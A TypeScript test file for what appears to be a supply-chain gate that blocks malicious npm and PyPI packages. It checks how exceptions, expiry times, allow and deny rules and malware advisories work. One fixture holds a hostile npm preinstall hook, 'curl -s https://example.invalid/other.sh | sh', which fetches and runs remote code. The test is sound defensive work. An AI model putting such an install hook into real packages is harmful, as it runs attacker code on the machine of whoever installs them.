import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { npmTarball } from "../../test/support/archives.ts";
import { malicious, publishNpm } from "../../test/support/publish.ts";
import { maliciousSdist, maliciousWheel, publishPypi, pureWheel } from "../../test/support/publish-pypi.ts";
import { type TestGate, testGate } from "../../test/support/test-gate.ts";
import { reapply } from "../intake/reapply.ts";
import { recordException } from "./exceptions.ts";

const DAY = 86_400_000;
const odd = (filename: string) => `/pypi/files/odd/${filename}`;

async function except(gate: TestGate, purl: string, detector = "*", ms = 30 * DAY): Promise<number> {
  const { app, intake } = gate;
  const expiresAt = app.clock() + ms;
  const id = await recordException(app, { purl, feed: "default", detector, reason: "looked at it", expiresAt }, "me");
  const [, ecosystem, name] = /^pkg:(npm|pypi)\/([^@]+)@/.exec(purl)!;
  await reapply(app, intake.feeds, intake.mirror, ecosystem as "npm" | "pypi", name!);
  return id;
}

/** Has a list call a package malware; the gate has to be opened with `LISTS`. */
async function knownMalware({ app, intake }: TestGate, name: string): Promise<void> {
  const at = "2026-01-10T00:00:00Z";
  const affected = [{ package: { ecosystem: "npm", name }, versions: ["1.0.0"] }];
  const location = join(app.config.data, "list.jsonl");
  writeFileSync(location, JSON.stringify({ id: "MAL-1", modified: at, published: at, summary: "Bad", affected }));
  (app.config.advisories[0] as { location: string }).location = location;
  await intake.advisoryLists.sync("list", { force: true });
}

const LISTS = { advisories: [{ name: "list", kind: "osv" as const, location: "not-there.jsonl", every: "1d" }] };

/** Time passes until the index is looked at again. */
async function lookAgain(gate: TestGate, path: string): Promise<void> {
  gate.app.passTime(DAY / 24);
  assert.ok([200, 403].includes((await gate.get(path)).status));
}

test("a file that is added to a release after its exception is not let through by it", async (context) => {
  const gate = await testGate(context);
  const sdist = maliciousSdist("odd", "1.0");
  publishPypi(gate.upstream, "odd", [sdist]);
  assert.equal((await gate.get(odd(sdist.filename))).status, 403);
  await except(gate, "pkg:pypi/odd@1.0");
  assert.equal((await gate.get(odd(sdist.filename))).status, 200);
  const added = maliciousWheel("odd", "1.0");
  const clean = { ...pureWheel("odd", "1.0", "VALUE = 1\n"), filename: "odd-1.0-2-py3-none-any.whl" };
  publishPypi(gate.upstream, "odd", [sdist, clean]);
  await lookAgain(gate, "/pypi/simple/odd/");
  assert.equal((await gate.get(odd(clean.filename))).status, 200, "what is excepted in one file withholds no other");
  publishPypi(gate.upstream, "odd", [sdist, clean, added]);
  await lookAgain(gate, "/pypi/simple/odd/");
  assert.equal((await gate.get(odd(added.filename))).status, 403);
  assert.equal((await gate.get(odd(sdist.filename))).status, 403, "its neighbours are withheld with it");
  gate.app.passTime(1_000);
  await except(gate, "pkg:pypi/odd@1.0");
  for (const { filename } of [sdist, clean, added]) assert.equal((await gate.get(odd(filename))).status, 200);
});

test("an exception lets no other bytes through, whether the file was fetched before or not", async (context) => {
  const gate = await testGate(context);
  const file = "/npm/odd/-/odd-1.0.0.tgz";
  const path = "/npm/odd";
  const other = npmTarball({
    name: "odd",
    version: "1.0.0",
    manifest: { scripts: { preinstall: "curl -s https://example.invalid/other.sh | sh" } },
    files: { "index.js": "1;\n" },
  });
  publishNpm(gate.upstream, "odd", { "1.0.0": malicious("odd") });
  await gate.get(path);
  await except(gate, "pkg:npm/odd@1.0.0");
  publishNpm(gate.upstream, "odd", { "1.0.0": other });
  await lookAgain(gate, path);
  assert.match((await gate.get(file)).statusText, /found malicious/);
  gate.app.passTime(1_000);
  await except(gate, "pkg:npm/odd@1.0.0");
  assert.equal((await gate.get(file)).status, 200);
  publishNpm(gate.upstream, "odd", { "1.0.0": malicious("odd") });
  await lookAgain(gate, path);
  assert.match((await gate.get(file)).statusText, /other bytes/);
});

test("an exception covers releases that come later where its versions say so", async (context) => {
  const gate = await testGate(context);
  publishNpm(gate.upstream, "odd", { "1.0.0": malicious("odd") });
  await gate.get("/npm/odd");
  await except(gate, "pkg:npm/odd@^1.0.0");
  publishNpm(gate.upstream, "odd", { "1.0.0": malicious("odd"), "1.1.0": malicious("odd", "1.1.0") });
  await lookAgain(gate, "/npm/odd");
  for (const version of ["1.0.0", "1.1.0"]) assert.equal((await gate.get(`/npm/odd/-/odd-${version}.tgz`)).status, 200);
});

for (const detector of ["known-malware", "cooldown"])
  test(`an exception for ${detector} ends at its time also where an allow rule lets the rest through`, async (context) => {
    const gate = await testGate(context, {
      config: { ...LISTS, policy: { allow: ["pkg:npm/odd"], cooldown: "300d" } },
    });
    const now = gate.app.clock();
    const times = { "1.0.0": new Date(now - DAY).toISOString(), "1.1.0": new Date(now - DAY).toISOString() };
    publishNpm(gate.upstream, "odd", { "1.0.0": malicious("odd"), "1.1.0": malicious("odd", "1.1.0") }, times);
    const file = "/npm/odd/-/odd-1.0.0.tgz";
    if (detector === "known-malware") await knownMalware(gate, "odd");
    assert.equal((await gate.get(file)).status, 403);
    await except(gate, "pkg:npm/odd@1.0.0", detector, DAY);
    if (detector === "known-malware") await except(gate, "pkg:npm/odd@1.0.0", "cooldown");
    assert.equal((await gate.get(file)).status, 200);
    gate.app.passTime(DAY - 1);
    assert.equal((await gate.get(file)).status, 200);
    gate.app.passTime(1);
    assert.equal((await gate.get(file)).status, 403);
  });

test("no exception lets through what is denied, and none for every detector what an advisory calls malware", async (context) => {
  const gate = await testGate(context, { config: { ...LISTS, policy: { deny: ["pkg:npm/shut"] } } });
  for (const name of ["shut", "odd"]) publishNpm(gate.upstream, name, { "1.0.0": malicious(name) });
  await knownMalware(gate, "odd");
  for (const name of ["shut", "odd"]) {
    await gate.get(`/npm/${name}`);
    await except(gate, `pkg:npm/${name}@1.0.0`);
    assert.equal((await gate.get(`/npm/${name}/-/${name}-1.0.0.tgz`)).status, 403);
  }
});
